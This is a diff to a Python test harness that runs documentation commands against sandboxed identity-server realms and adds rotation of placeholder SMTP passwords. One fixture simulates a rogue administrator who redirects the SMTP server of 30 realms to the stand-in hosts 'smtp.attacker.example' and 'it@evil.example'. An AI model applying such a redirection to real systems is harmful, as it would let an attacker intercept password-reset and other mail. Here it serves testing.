@@ -99,19 +99,29 @@ def pause() -> None:
     threading.Event().wait(1.0)
 
 
-def edit_by_hand(sandbox: Sandbox) -> None:
+def edit_by_hand(stage: Stage) -> None:
     """Change 30 realms as another administrator would; the server records the edits of some."""
     hacked = {"host": "smtp.attacker.example", "from": "it@evil.example"}
-    admin = AdminApi(sandbox.url)
+    admin = AdminApi(stage.sandbox.url)
     for realm in TENANTS[:30]:
-        admin.ok("PUT", f"/admin/realms/{realm}", {"smtpServer": sandbox.smtp(realm) | hacked})
+        admin.ok("PUT", f"/admin/realms/{realm}", {"smtpServer": stage.sandbox.smtp(realm) | hacked})
     admin.close()
+
+
+def replace_passwords(stage: Stage) -> None:
+    """Put new values into the variables of the 40 passwords."""
+    stage.environ |= passwords("new")
+
+
+def passwords(age: str) -> dict[str, str]:
+    """Return 40 variables, each with a password of its own."""
+    return {f"SMTP_PASSWORD_{number}": f"{age}-password-{number}" for number in range(261, 301)}
 
 
 DURING: Mapping[str, Act] = {"yes": answer_yes, "Ctrl-C": press_ctrl_c}
 """What happens while the first command of a block runs."""
 
-BEFORE: Mapping[str, Callable[[Sandbox], None]] = {"edit": edit_by_hand}
+BEFORE: Mapping[str, Callable[[Stage], None]] = {"edit": edit_by_hand, "new passwords": replace_passwords}
 
 
 # The page
@@ -179,7 +189,7 @@ def stage() -> Iterator[Stage]:
         with old, Sandbox(options, relay) as sandbox:
             for number, realm in enumerate(TENANTS):
                 sandbox.create_realm(realm, adminEventsEnabled=number % 10 != 0, adminEventsDetailsEnabled=True)
-            environ = sandbox_environ(folder, sandbox.url) | {"TERM": "xterm", "PAGER": "cat"}
+            environ = sandbox_environ(folder, sandbox.url) | {"TERM": "xterm", "PAGER": "cat"} | passwords("old")
             yield Stage(sandbox, old, folder, environ)
 
 
@@ -190,7 +200,7 @@ def renew(page: str, stage: Stage) -> str:
     def run_block(block: re.Match[str]) -> str:
         act, parts = block["act"] or "", []
         if act in BEFORE:
-            BEFORE[act](stage.sandbox)
+            BEFORE[act](stage)
         for number, step in enumerate(steps(block["content"])):
             parts.append(f"$ {step.command}\n{stage.run(step.command, act if number == 0 else '')}")
         comment = f"<!-- gallery: {act} -->\n" if act else ""
